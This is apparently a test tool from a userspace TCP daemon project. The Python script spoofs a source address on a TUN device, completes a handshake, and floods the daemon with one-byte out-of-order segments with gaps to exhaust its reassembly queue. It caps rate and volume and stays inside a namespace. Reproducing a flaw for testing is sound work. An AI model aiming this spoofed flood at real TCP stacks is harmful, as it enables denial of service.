#!/usr/bin/env python3
"""One connection from a spoofed source, then out-of-order one-byte segments with holes.

Run it *inside* the network namespace that holds the daemon's TUN device, e.g.::

    ip netns exec ustcp .venv/bin/python tools/ofo_flood.py --target 10.77.0.2 --port 9 \\
        --holes 5000

It opens a TCP connection to ``--target`` from ``--source`` (an address of the TUN subnet
that no host owns, so the kernel never answers for it), by sending and receiving frames on
the TUN device itself with an AF_PACKET socket: what it sends goes to the daemon, and the
daemon's replies are read there before the kernel drops them. Then it sends ``--holes``
segments of one byte each, every one a byte past a hole (the issue 13 attack on the
out-of-order queue), and resets the connection. It prints what it did (``--json``).

Bounded: at most 100,000 holes at 100,000/s (default 10,000/s: the device queue holds 500
frames), a 5 s handshake timeout, the source must lie in the /24 of the target; a refusal
prints one line and exits with status 2.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import sys
import time

import dpkt

MAX_HOLES = 100_000
MAX_RATE = 100_000.0
TICK = 0.001  # pacing granularity, seconds
HANDSHAKE_TIMEOUT = 5.0
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


def tcp_frame(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int,
              payload: bytes = b"", opts: bytes = b"") -> bytes:
    tcp = dpkt.tcp.TCP(sport=sport, dport=dport, seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF,
                       flags=flags, win=65535, opts=opts, data=payload)
    tcp.off = (20 + len(opts)) // 4
    ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=dpkt.ip.IP_PROTO_TCP,
                    ttl=64, data=tcp)
    ip.len = 20 + len(tcp)
    return bytes(ip)


def handshake(sock: socket.socket, dev: str, src: str, dst: str, sport: int, dport: int,
              isn: int) -> int:
    """SYN, wait for the SYN-ACK, ACK; returns the daemon's ISN."""
    syn_opts = b"\x02\x04\x05\xb4" + b"\x04\x02" + b"\x01\x01"  # MSS 1460, SACK-permitted
    sock.sendto(tcp_frame(src, dst, sport, dport, isn, 0, dpkt.tcp.TH_SYN, opts=syn_opts),
                (dev, ETH_P_IP))
    deadline = time.monotonic() + HANDSHAKE_TIMEOUT
    while time.monotonic() < deadline:
        sock.settimeout(max(deadline - time.monotonic(), 0.01))
        try:
            data, addr = sock.recvfrom(65536)
        except TimeoutError:
            break
        if addr[2] == PACKET_OUTGOING:
            continue
        ip = dpkt.ip.IP(data)
        if ip.p != dpkt.ip.IP_PROTO_TCP or ip.dst != socket.inet_aton(src):
            continue
        tcp = ip.data
        if tcp.dport == sport and tcp.flags & (dpkt.tcp.TH_SYN | dpkt.tcp.TH_ACK) == (
                dpkt.tcp.TH_SYN | dpkt.tcp.TH_ACK) and tcp.ack == (isn + 1) & 0xFFFFFFFF:
            sock.sendto(tcp_frame(src, dst, sport, dport, isn + 1, tcp.seq + 1,
                                  dpkt.tcp.TH_ACK), (dev, ETH_P_IP))
            return int(tcp.seq)
    raise SystemExit("ofo_flood: no SYN-ACK within 5 s")


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--target", required=True, help="the daemon's address")
    p.add_argument("--port", type=int, default=9, help="a listening port (default 9, discard)")
    p.add_argument("--source", default="10.77.0.66", help="spoofed source (default 10.77.0.66)")
    p.add_argument("--dev", default="ustcp0", help="the TUN device (default ustcp0)")
    p.add_argument("--holes", type=int, default=5000, help=f"at most {MAX_HOLES}")
    p.add_argument("--rate", type=float, default=10000.0,
                   help=f"segments per second (default 10000, at most {MAX_RATE:g})")
    p.add_argument("--seed", type=int, default=None)
    p.add_argument("--json", action="store_true")
    args = p.parse_args(argv)
    try:
        target = ipaddress.IPv4Address(args.target)
        source = ipaddress.IPv4Address(args.source)
    except ValueError as exc:
        print(f"ofo_flood: {exc}", file=sys.stderr)
        raise SystemExit(2) from None
    if source not in ipaddress.IPv4Network(f"{target}/24", strict=False) or source == target:
        print("ofo_flood: --source must be another address in the target's /24", file=sys.stderr)
        raise SystemExit(2)
    if not 0 < args.rate <= MAX_RATE:
        print(f"ofo_flood: --rate must be in (0, {MAX_RATE:g}]", file=sys.stderr)
        raise SystemExit(2)
    if not 0 < args.holes <= MAX_HOLES:
        print(f"ofo_flood: --holes must be 1..{MAX_HOLES}", file=sys.stderr)
        raise SystemExit(2)
    rng = random.Random(args.seed)
    sport, isn = rng.randrange(20000, 60000), rng.getrandbits(32)
    src, dst = str(source), str(target)
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sock:
        sock.bind((args.dev, ETH_P_IP))
        rcv_isn = handshake(sock, args.dev, src, dst, sport, args.port, isn)
        frames = [tcp_frame(src, dst, sport, args.port, isn + 2 + 2 * i, rcv_isn + 1,
                            dpkt.tcp.TH_ACK, b"x") for i in range(args.holes)]
        start = time.monotonic()
        for n, frame in enumerate(frames):
            # Paced: the device queue holds 500 frames and drops the rest of a burst.
            ahead = start + n / args.rate - time.monotonic()
            if ahead > TICK:
                time.sleep(ahead)
            sock.sendto(frame, (args.dev, ETH_P_IP))
        end = time.monotonic()
        sock.sendto(tcp_frame(src, dst, sport, args.port, isn + 1, 0, dpkt.tcp.TH_RST),
                    (args.dev, ETH_P_IP))
    summary = {"holes": args.holes, "start": start, "end": end, "seconds": end - start}
    print(json.dumps(summary) if args.json else
          f"{args.holes} holes sent in {end - start:.3f} s from {src}:{sport}")


if __name__ == "__main__":
    main()
